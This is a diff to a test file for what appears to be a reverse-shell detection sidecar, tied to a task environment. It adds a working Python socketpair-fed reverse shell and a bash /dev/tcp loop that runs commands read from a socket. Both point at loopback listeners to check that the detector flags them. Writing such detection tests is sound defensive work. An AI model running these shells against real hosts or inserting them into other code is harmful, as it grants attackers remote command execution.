@@ -95,7 +95,7 @@ def test_relay_started_shell(task_env: TaskEnv, tmp_path: Path) -> None:
     task_env.run("worker", ["sh", "-c", "cp /bin/sh /tmp/socat2; echo ok"])
     time.sleep(1)
     assert sidecar.stop() == 0
-    assert [x["type"] for x in sidecar.findings()].count(TYPE) == 1
+    assert len({x["id"] for x in sidecar.findings() if x["type"] == TYPE}) == 1
 
 
 NC_RELAY = """#!/usr/bin/python3
@@ -144,7 +144,7 @@ def test_fifo_pipeline_reverse_shell_and_a_port_check_next_to_a_shell(task_env: 
     assert f["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "app"
     time.sleep(1)
     assert sidecar.stop() == 0
-    assert [x["type"] for x in sidecar.findings()].count(TYPE) == 1
+    assert len({x["id"] for x in sidecar.findings() if x["type"] == TYPE}) == 1
 
 
 PUMPED_SHELL = """
@@ -208,4 +208,55 @@ def test_shell_pumped_by_a_client_and_a_terminal_session(task_env: TaskEnv, tmp_
     assert f["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "app"
     time.sleep(1)
     assert sidecar.stop() == 0
-    assert [x["type"] for x in sidecar.findings()].count(TYPE) == 1
+    assert len({x["id"] for x in sidecar.findings() if x["type"] == TYPE}) == 1
+
+
+SOCKETPAIR_SHELL = """
+import socket, subprocess, sys
+s = socket.create_connection(("127.0.0.10", int(sys.argv[1])))
+mine, theirs = socket.socketpair()  # what node's child_process.spawn gives a child for its stdio
+sh = subprocess.Popen(["/bin/sh"], stdin=theirs, stdout=theirs, stderr=theirs)
+theirs.close()
+import threading
+def out():
+    while data := mine.recv(4096):
+        s.sendall(data)
+threading.Thread(target=out, daemon=True).start()
+while data := s.recv(4096):
+    mine.sendall(data)
+sh.wait()
+"""
+
+
+def test_dev_tcp_loops_and_a_socketpair_fed_shell(task_env: TaskEnv, tmp_path: Path) -> None:
+    """bash's /dev/tcp with the connection on fd 5 and a `while read` loop running what it reads; a shell whose
+    stdio is a socketpair pumped by its parent (node's spawn). Port checks and a hand-made HTTP request through
+    /dev/tcp are not reverse shells."""
+    sidecar = task_env.start_detecting(tmp_path)
+    with listener("127.0.0.9") as (srv, port), listener("127.0.0.10") as (srv2, port2):
+        for benign in (
+            f"</dev/tcp/127.0.0.9/{port}",
+            f"exec 3<>/dev/tcp/127.0.0.9/{port}; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; timeout 1 cat <&3",
+        ):
+            task_env.run("worker", ["bash", "-c", benign], wait=False)
+            srv.accept()[0].close()
+        loop = f"exec 5<>/dev/tcp/127.0.0.9/{port}; cat <&5 | while read line; do $line 2>&5 >&5; done"
+        task_env.run("app", ["bash", "-c", loop], wait=False)
+        conn, _ = srv.accept()
+        task_env.run("worker", [PY, "-c", SOCKETPAIR_SHELL, str(port2)], wait=False)
+        conn2, _ = srv2.accept()
+        with conn, conn2:
+            conn.sendall(b"sleep 2\n")
+            conn2.sendall(b"sleep 3\n")
+            dev_tcp = sidecar.wait_for_finding(lambda f: f["type"] == TYPE and "/dev/tcp" in f["description"], 20)
+            pumped = sidecar.wait_for_finding(lambda f: f["type"] == TYPE and "pumps" in f["description"], 20)
+    for f in (dev_tcp, pumped):
+        Finding.model_validate(f)
+        assert f["severity"] == 8.0
+    assert dev_tcp["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "app"
+    assert f"127.0.0.9:{port}" in dev_tcp["description"]
+    assert pumped["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "worker"
+    assert pumped["service"]["action"]["networkConnectionAction"]["remoteIpDetails"]["ipAddressV4"] == "127.0.0.10"
+    time.sleep(1)
+    assert sidecar.stop() == 0
+    assert len({x["id"] for x in sidecar.findings() if x["type"] == TYPE}) == 2
